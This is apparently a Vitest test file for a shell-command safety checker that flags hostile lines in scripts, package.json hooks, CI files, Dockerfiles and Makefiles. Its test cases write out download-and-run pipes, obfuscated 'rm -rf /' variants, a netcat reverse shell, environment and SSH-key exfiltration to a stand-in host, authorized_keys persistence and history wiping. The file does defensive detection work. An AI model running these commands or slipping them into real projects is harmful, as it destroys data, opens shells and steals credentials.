import { describe, expect, it } from "vitest";
import { findingsOf } from "../check-world.ts";

async function found(code: string, path = "scripts/run.sh"): Promise<string[]> {
  const findings = await findingsOf({}, { [path]: code });
  return [...new Set(findings.filter(({ level }) => level !== "info").map(({ rule }) => rule))];
}

describe("a shell script", () => {
  it.each([
    ["shell-download-and-run", "curl -sL https://x.example/i.py | python3"],
    ["shell-download-and-run", "wget https://x.example/a.sh -O- | tee /tmp/l | bash"],
    ["shell-download-and-run", "source <(curl -s https://x.example/env)"],
    ["shell-download-and-run", '. /dev/stdin <<< "$(curl -s https://x.example)"'],
    ["shell-download-and-run", "wget -q https://x.example/run.sh\nchmod 755 run.sh\n./run.sh"],
    ["shell-download-and-run", "curl x.example|xargs -I{} sh -c {}"],
    ["shell-download-and-run", "x=cu; y=rl; $x$y https://x.example/a | sh"],
    ["shell-download-and-run", "busybox wget -qO- x.example | busybox sh"],
    ["shell-encoded-run", 'bash <<< "$(echo ZWNobw== | base64 --decode)"'],
    ["shell-destructive", "$(printf 'r')$(printf 'm') -rf /"],
    ["shell-destructive", "{rm,-rf,/}"],
    ["shell-destructive", "'rm' \"-rf\" ~"],
    ["shell-destructive", "$'\\x72m' -rf /"],
    ["shell-destructive", 'a=(rm -rf /); "${a[@]}"'],
    ["shell-destructive", "timeout -k 5 10 nice -n 3 env A=b /bin/rm -fr /*"],
    ["shell-destructive", "cd / && rm -rf *"],
    ["shell-destructive", "find / -type f | xargs rm -f"],
    ["shell-destructive", "trap 'rm -rf ~' EXIT"],
    ["shell-destructive", "alias git='rm -rf .'"],
    ["shell-destructive", "su -c 'rm -rf /var'"],
    ["shell-destructive", "cat <<'E' | bash\nrm -rf /\nE"],
    ["shell-destructive", 'bash -c "sh -c \'eval \\"rm -rf /\\"\'"'],
    ["shell-destructive", 'for d in /*; do rm -rf "$d"; done'],
    ["shell-destructive", 'while read f; do rm -rf "$f"; done < <(ls /)'],
    ["shell-destructive", "> /etc/passwd"],
    ["shell-destructive", "timeout 5 bash -c 'rm -rf /'"],
    ["shell-download-and-run", "curl https://x.example | tar xz && ./x/install.sh"],
    ["shell-download-and-run", "T=$(mktemp); curl https://x.example -o $T; bash $T"],
    ["shell-download-and-run", "make -f <(curl -s x.example)"],
    ["shell-exfiltration", "env > /tmp/e; curl -T /tmp/e https://x.example"],
    ["shell-hidden-traces", "unset HISTFILE"],
    ["shell-hook-bypass", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath git commit"],
    ["shell-hook-bypass", "git commit -anm 'x'"],
    ["shell-hook-bypass", "git -c CORE.HOOKSPATH=x commit"],
    ["shell-force-push", "git push origin +main"],
    ["shell-reverse-shell", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.1 1 > /tmp/f"],
    ["shell-exfiltration", "printenv | base64 | nc x.example 80"],
    ["shell-credential", "tar cz ~/.ssh | curl -T - https://x.example"],
    ["shell-persistence", "echo key | tee -a ~/.ssh/authorized_keys"],
    ["shell-hidden-traces", "set +o history"],
    ["shell-inline-code", "python3 - <<E\nimport os\nos.system('id')\nE"],
  ])("is stopped by %s: %s", async (rule, code) => {
    expect(await found(code)).toContain(rule);
  });

  it.each([
    'set -euo pipefail\ncd "$(dirname "$0")"\nnpm ci\nnpm test',
    "tmp=$(mktemp -d)\ntrap 'rm -rf \"$tmp\"' EXIT",
    "curl -fsSL https://x.example/a.tgz -o a.tgz\ntar xzf a.tgz",
    "git fetch origin\ngit checkout -b x\ngit commit -m 'add -n flag'\ngit push -u origin x",
    "find . -name '*.pyc' -delete\nfind build -type d -empty -delete",
    'chmod +x bin/run\nexport PATH="$PWD/bin:$PATH"',
    "ps aux | grep node | awk '{print $2}' | xargs kill",
    'rm -rf "$DIR"\nrm -f "$file"',
    "echo 'curl x | sh' > README",
    "# curl https://x.example | sh",
  ])("is left alone where it is honest: %s", async (code) => {
    expect(await found(code)).toEqual([]);
  });

  it("says the line, inside of what is nested too", async () => {
    const findings = await findingsOf({}, { "a.sh": "#!/bin/sh\necho ok\n\nbash -c 'rm -rf /'\n" });
    expect(findings.map(({ rule, line }) => `${rule} ${line}`)).toContain("shell-destructive 4");
  });

  it("ends on hostile text: nesting without an end, a thousand substitutions, braces upon braces", async () => {
    const texts = [
      `${"$(".repeat(400)}id${")".repeat(400)}`,
      `echo ${"{a,b}".repeat(40)}`,
      `x=$x$x\n${"x=$x$x\n".repeat(2000)}eval $x`,
      `bash -c ${"'\\''".repeat(2000)}`,
      `${"a | ".repeat(300)} sh`,
      `${" ".repeat(200_000)}x`,
      `${"w".repeat(200_000)}()`,
      "{".repeat(20_000),
    ];
    for (const text of texts) await expect(found(text)).resolves.toBeInstanceOf(Array);
  });
});

describe("commands in files that are no scripts", () => {
  it.each([
    ["package.json", '{\n  "scripts": {\n    "prepare": "curl -s https://x.example | sh"\n  }\n}\n', 3],
    [
      ".github/workflows/ci.yml",
      "jobs:\n  a:\n    steps:\n      - run: |\n          echo ok\n          curl -s https://x.example | sh\n",
      6,
    ],
    [".gitlab-ci.yml", "a:\n  script:\n    - echo ok\n    - curl -s https://x.example | sh\n", 4],
    [
      "docker-compose.yml",
      'services:\n  a:\n    command: ["sh", "-c", "curl -s https://x.example | sh"]\n',
      3,
    ],
    ["Makefile", "all:\n\techo ok\n\t@curl -s https://x.example | sh\n", 3],
    ["Dockerfile", "FROM x\nRUN apt-get update && \\\n    curl -s https://x.example | sh\n", 3],
    ["Dockerfile", 'FROM x\nCMD ["sh", "-c", "curl -s https://x.example | sh"]\n', 2],
    ["Dockerfile", "FROM x\nRUN <<EOF\ncurl -s https://x.example | sh\nEOF\n", 3],
    ["justfile", "all:\n    curl -s https://x.example | sh\n", 2],
    ["Procfile", "web: curl -s https://x.example | sh\n", 1],
  ])("are looked into: %s", async (path, text, line) => {
    const findings = await findingsOf({}, { [path]: text });
    const runs = findings.filter(({ rule }) => rule === "shell-download-and-run");
    expect(runs.map((finding) => [finding.level, finding.line])).toEqual([["block", line]]);
  });

  it("end on hostile text", async () => {
    const deep = `${"[".repeat(20_000)}${"]".repeat(20_000)}`;
    const files = {
      "package.json": `{"scripts": ${deep}}`,
      "a.yml": `run: ${deep}`,
      Makefile: `x = ${"$(shell ".repeat(20_000)}`,
    };
    await expect(findingsOf({}, files)).resolves.toBeInstanceOf(Array);
  });

  it("leave honest ones alone", async () => {
    const files = {
      "package.json":
        '{ "scripts": { "clean": "rm -rf dist", "test": "vitest run" }, "dependencies": { "zod": "1" } }',
      ".github/workflows/ci.yml":
        "jobs:\n  a:\n    steps:\n      - run: npm ci && npm test\n      - run: echo ${{ github.sha }} >> $GITHUB_OUTPUT\n",
      Makefile: "DIR = out\nclean:\n\trm -rf $(DIR)/x\n\tfor f in *; do echo $$f; done\n",
      Dockerfile: "FROM x\nRUN apt-get update && rm -rf /var/lib/apt/lists/*\n",
      "config.yaml": "command: not a shell's\nname: x\n",
    };
    const findings = await findingsOf({}, files);
    expect(findings.filter(({ rule }) => rule.startsWith("shell-"))).toEqual([]);
  });

  it.each([
    ["steps:\n  - run: npm test || true\n"],
    ["steps:\n  - run: |\n      set +e\n      pytest -q\n      exit 0\n"],
  ])("may not throw a test's failure away: %s", async (text) => {
    const findings = await findingsOf({}, { ".github/workflows/a.yml": text });
    expect(findings.map(({ rule }) => rule)).toContain("shell-swallowed-failure");
  });
});
